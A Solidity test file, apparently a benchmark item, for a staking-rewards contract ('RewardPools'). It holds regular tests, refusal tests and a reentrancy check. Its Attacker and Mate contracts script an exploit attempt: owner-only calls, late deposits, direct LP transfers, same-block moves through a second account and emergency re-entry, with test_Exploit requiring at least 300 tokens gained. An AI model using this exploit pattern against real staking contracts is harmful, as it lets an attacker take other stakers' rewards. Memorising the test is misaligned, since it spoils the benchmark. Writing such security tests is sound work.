// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "@openzeppelin/contracts@3.4.2/token/ERC20/ERC20.sol";
import "./RewardPools.sol";

// assay-canary-5ac4e245-78c6-4860-a986-d17114fb9aef

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20("Coin", "COIN") {
    address private immutable minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter);
        _mint(to, amount);
    }
}

interface IHook {
    function moved() external;
}

contract Lp is ERC20("Pair", "LP") {
    address private immutable minter = msg.sender;
    uint256 private fee;
    IHook private hook;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter);
        _mint(to, amount);
    }

    function setFee(uint256 amount) external {
        require(msg.sender == minter);
        fee = amount;
    }

    function setHook(IHook hook_) external {
        require(msg.sender == minter);
        hook = hook_;
    }

    function transfer(address to, uint256 amount) public override returns (bool) {
        if (address(hook) != address(0)) hook.moved();
        return super.transfer(to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        if (address(hook) != address(0)) hook.moved();
        super.transferFrom(from, to, amount);
        _burn(to, fee);
        return true;
    }
}

contract Attacker {
    RewardPools internal pools;
    Lp internal lp;
    Coin internal coin;

    constructor(RewardPools pools_, Lp lp_, Coin coin_) public {
        pools = pools_;
        lp = lp_;
        coin = coin_;
        lp_.approve(address(pools_), uint256(-1));
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(pools).call(data);
    }

    function _in(uint256 pid, uint256 amount) internal {
        _try(abi.encodeWithSelector(pools.deposit.selector, pid, amount));
    }

    function _out(uint256 pid, uint256 amount) internal {
        _try(abi.encodeWithSelector(pools.withdraw.selector, pid, amount));
    }

    function _harvest(uint256 pid) internal {
        _try(abi.encodeWithSelector(pools.harvest.selector, pid));
    }

    function run() external {
        // in the owner's place
        _try(abi.encodeWithSelector(pools.add.selector, 10000, address(coin)));
        _try(abi.encodeWithSelector(pools.set.selector, 0, 0));
        _try(abi.encodeWithSelector(pools.fund.selector, 0, 1 days));
        _try(abi.encodeWithSelector(pools.transferOwnership.selector, address(this)));
        // late, and at once
        _in(0, 0);
        _in(7, 1 ether);
        lp.transfer(address(pools), 1 ether);
        _harvest(0);
        _in(0, 50 ether);
        _harvest(0);
        _in(0, 20 ether);
        _harvest(0);
        _harvest(1);
        _out(0, uint256(-1));
        _out(0, 71 ether);
        _out(1, 70 ether);
        // through a second account, in the same block
        _out(0, 70 ether);
        Mate mate = new Mate(pools, lp, coin);
        lp.transfer(address(mate), lp.balanceOf(address(this)));
        mate.go();
        // out in emergency, and in again
        _in(0, 99 ether);
        _try(abi.encodeWithSelector(pools.emergencyWithdraw.selector, 0));
        _try(abi.encodeWithSelector(pools.emergencyWithdraw.selector, 0));
        _harvest(0);
        _in(1, 40 ether);
        _try(abi.encodeWithSelector(pools.massUpdatePools.selector));
        _harvest(1);
        _in(0, 59 ether);
        _harvest(0);
    }

    function later() external {
        _harvest(0);
        _harvest(0);
        _out(0, 59 ether);
        _out(1, 40 ether);
        _harvest(1);
    }
}

contract Mate {
    RewardPools internal pools;
    Lp internal lp;
    Coin internal coin;
    address internal boss;

    constructor(RewardPools pools_, Lp lp_, Coin coin_) public {
        pools = pools_;
        lp = lp_;
        coin = coin_;
        boss = msg.sender;
        lp_.approve(address(pools_), uint256(-1));
    }

    function go() external {
        uint256 amount = lp.balanceOf(address(this));
        (bool ok, ) = address(pools).call(abi.encodeWithSelector(pools.deposit.selector, 0, amount));
        (ok, ) = address(pools).call(abi.encodeWithSelector(pools.harvest.selector, 0));
        (ok, ) = address(pools).call(abi.encodeWithSelector(pools.withdraw.selector, 0, amount));
        lp.transfer(boss, lp.balanceOf(address(this)));
        coin.transfer(boss, coin.balanceOf(address(this)));
    }
}

contract Caller is IHook {
    RewardPools private pools;
    uint256 private what;

    constructor(RewardPools pools_, Lp lp) public {
        pools = pools_;
        lp.approve(address(pools_), uint256(-1));
    }

    function enter() external {
        pools.deposit(0, 1 ether);
    }

    function leave() external {
        pools.withdraw(0, 1);
    }

    function leaveAll() external {
        pools.emergencyWithdraw(0);
    }

    function plan(uint256 what_) external {
        what = what_;
    }

    function moved() external override {
        if (what == 1) pools.deposit(0, 0);
        if (what == 2) pools.withdraw(0, 1);
        if (what == 3) pools.harvest(0);
        if (what == 4) pools.emergencyWithdraw(0);
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant ALICE = address(0xA11CE);
    address private constant BOB = address(0xB0B);

    Coin public coin;
    Lp private lp;
    RewardPools private pools;
    Attacker private late;

    function setUp() public {
        vm.warp(1_795_000_000);
        coin = new Coin();
        lp = new Lp();
        pools = new RewardPools(coin);
        late = new Attacker(pools, lp, coin);
        lp.mint(address(late), 100e18);
        lp.mint(ALICE, 200e18);
        coin.mint(address(this), 10000e18);
        coin.approve(address(pools), uint256(-1));
        pools.add(100, lp);
        vm.prank(ALICE);
        lp.approve(address(pools), uint256(-1));
        vm.prank(ALICE);
        pools.deposit(0, 100e18);
        pools.fund(864e18, 10 days);
        vm.warp(block.timestamp + 5 days);
        pools.updatePool(0);
    }

    function test_Regular() public {
        require(pools.pendingReward(0, ALICE) == 432e18, "half of the period");
        vm.prank(ALICE);
        pools.harvest(0);
        require(coin.balanceOf(ALICE) == 432e18 && pools.rewardReserve() == 432e18, "harvested");
        // the reward token has a pool, too
        pools.add(300, coin);
        require(pools.poolLength() == 2 && pools.totalAllocPoint() == 400, "added");
        coin.mint(BOB, 60e18);
        vm.prank(BOB);
        coin.approve(address(pools), uint256(-1));
        vm.prank(BOB);
        pools.deposit(1, 40e18);
        vm.prank(BOB);
        pools.deposit(1, 20e18);
        vm.warp(block.timestamp + 1 days);
        require(pools.pendingReward(0, ALICE) == 21.6e18, "a quarter");
        require(pools.pendingReward(1, BOB) == 64.8e18, "three quarters");
        pools.massUpdatePools();
        vm.prank(ALICE);
        pools.emergencyWithdraw(0);
        require(lp.balanceOf(ALICE) == 200e18 && pools.spare() == 21.6e18, "forfeited");
        vm.prank(BOB);
        pools.withdraw(1, 60e18);
        require(coin.balanceOf(BOB) == 124.8e18, "stake and reward");
        pools.set(0, 0);
        vm.warp(block.timestamp + 5 days);
        pools.fund(1e18, 1 days);
        require(pools.spare() < 1 days && pools.endTime() == block.timestamp + 1 days, "next period");
        require(pools.rewardPerSecond() == (uint256(1e18) + 21.6e18 + 4 * 86.4e18) / 1 days, "with what nobody earned");
        vm.warp(block.timestamp + 2 days);
        pools.updatePool(1);
        pools.transferOwnership(BOB);
        vm.prank(BOB);
        pools.renounceOwnership();
        require(pools.owner() == address(0), "given up");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesZeroReward() public {
        vm.expectRevert("constructor: zero token");
        new RewardPools(IERC20(0));
    }

    function test_RefusesStrangers() public {
        vm.prank(BOB);
        vm.expectRevert("Ownable: caller is not the owner");
        pools.fund(1e18, 1 days);
        vm.prank(BOB);
        vm.expectRevert("Ownable: caller is not the owner");
        pools.add(1, lp);
        vm.prank(BOB);
        vm.expectRevert("Ownable: caller is not the owner");
        pools.set(0, 1);
    }

    function test_RefusesFunding() public {
        vm.expectRevert("fund: period not over");
        pools.fund(1e18, 1 days);
        vm.warp(pools.endTime());
        vm.expectRevert("fund: bad duration");
        pools.fund(1e18, 1 days - 1);
        vm.expectRevert("fund: bad duration");
        pools.fund(1e18, 365 days + 1);
        vm.expectRevert("fund: too little");
        pools.fund(1, 1 days);
    }

    function test_RefusesPools() public {
        vm.expectRevert("add: bad points");
        pools.add(0, lp);
        vm.expectRevert("add: bad points");
        pools.add(10001, lp);
        vm.expectRevert("add: zero token");
        pools.add(1, IERC20(0));
        vm.expectRevert("pool: does not exist");
        pools.set(1, 1);
        vm.expectRevert("set: bad points");
        pools.set(0, 10001);
        vm.expectRevert("set: no points left");
        pools.set(0, 0);
        vm.expectRevert("pool: does not exist");
        pools.updatePool(1);
        vm.expectRevert("pool: does not exist");
        pools.emergencyWithdraw(1);
        for (uint256 i = 1; i < 20; ++i) pools.add(1, lp);
        vm.expectRevert("add: too many pools");
        pools.add(1, lp);
    }

    function test_RefusesStakes() public {
        vm.prank(ALICE);
        vm.expectRevert("deposit: nothing received");
        pools.deposit(0, 0);
        vm.prank(ALICE);
        vm.expectRevert("withdraw: bad amount");
        pools.withdraw(0, 0);
        vm.prank(ALICE);
        vm.expectRevert("withdraw: bad amount");
        pools.withdraw(0, 100e18 + 1);
        vm.prank(BOB);
        vm.expectRevert("emergency: no stake");
        pools.emergencyWithdraw(0);
    }

    function test_RefusesCallsInBetween() public {
        Caller caller = new Caller(pools, lp);
        lp.mint(address(caller), 10e18);
        caller.enter();
        lp.setHook(caller);
        bytes memory why = "ReentrancyGuard: reentrant call";
        for (uint256 what = 1; what < 5; ++what) {
            caller.plan(what);
            vm.expectRevert(why);
            caller.enter();
            vm.expectRevert(why);
            caller.leave();
            vm.expectRevert(why);
            caller.leaveAll();
        }
    }

    function exploit() public {
        late.run();
        vm.warp(block.timestamp + 6 hours);
        late.later();
    }

    function test_Exploit() public {
        uint256 before = coin.balanceOf(address(late));
        exploit();
        require(coin.balanceOf(address(late)) >= before + 300e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pools);
    }

    function attacker() public view returns (address) {
        return address(late);
    }
}
